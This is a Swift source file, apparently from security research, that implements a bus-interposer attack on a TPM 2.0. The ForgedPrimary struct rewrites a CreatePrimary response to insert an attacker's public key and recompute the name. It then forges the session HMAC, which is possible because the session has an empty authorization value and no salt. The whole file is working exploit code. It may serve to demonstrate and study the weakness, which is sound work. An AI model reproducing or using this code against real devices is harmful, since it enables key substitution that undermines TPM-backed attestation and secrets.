import Crypto
import Foundation

/// An attack on the bus: the answer to CreatePrimary with the attacker's public key in it.
///
/// The session of that command has the empty authorization value and no salt, so anyone can compute its
/// HMAC (TPM 2.0 Library, part 1, section 19.6).
struct ForgedPrimary {
  /// The attacker's `TPM2B_PUBLIC`, from another TPM.
  let publicArea: Data

  func replace(_ answer: Data, to command: Data) -> Data {
    let (answer, command) = ([UInt8](answer), [UInt8](command))
    guard answer[0] == 0x80, answer[1] == 0x02, answer[6..<10].allSatisfy({ $0 == 0 }) else {
      return Data(answer)
    }
    // Header 10, object handle 4, size of the parameters 4, then the TPM2B_PUBLIC.
    let parameterCount = number(answer[14..<18])
    var parameters = Array(answer[18..<(18 + parameterCount)])
    let areaCount = 2 + number(parameters[0..<2])
    precondition(areaCount == publicArea.count, "The areas have the same size.")
    parameters.replaceSubrange(0..<areaCount, with: publicArea)
    // The name is the last parameter, with its count.
    let name = [0x00, 0x0B] + Array(SHA256.hash(data: publicArea.dropFirst(2)))
    parameters.replaceSubrange((parameters.count - 34)..., with: name)

    // The authorization: nonceTPM with its count, attributes, HMAC with its count.
    let session = Array(answer[(18 + parameterCount)...])
    let nonceCount = number(session[0..<2])
    let nonceTPM = session[2..<(2 + nonceCount)]
    let attributes = session[2 + nonceCount]
    let head = session[...(2 + nonceCount)]
    // The command: header 10, handle 4, size of the authorizations 4, session handle 4, nonceCaller.
    let nonceCaller = command[24..<(24 + number(command[22..<24]))]
    let parameterHash = SHA256.hash(data: [0, 0, 0, 0] + command[6..<10] + parameters)
    let code = HMAC<SHA256>.authenticationCode(
      for: Array(parameterHash) + nonceTPM + nonceCaller + [attributes],
      using: SymmetricKey(data: Data()))
    return Data(answer[..<18] + parameters + head + [0, 32] + Array(code))
  }

  private func number(_ bytes: ArraySlice<UInt8>) -> Int { bytes.reduce(0) { $0 << 8 | Int($1) } }
}
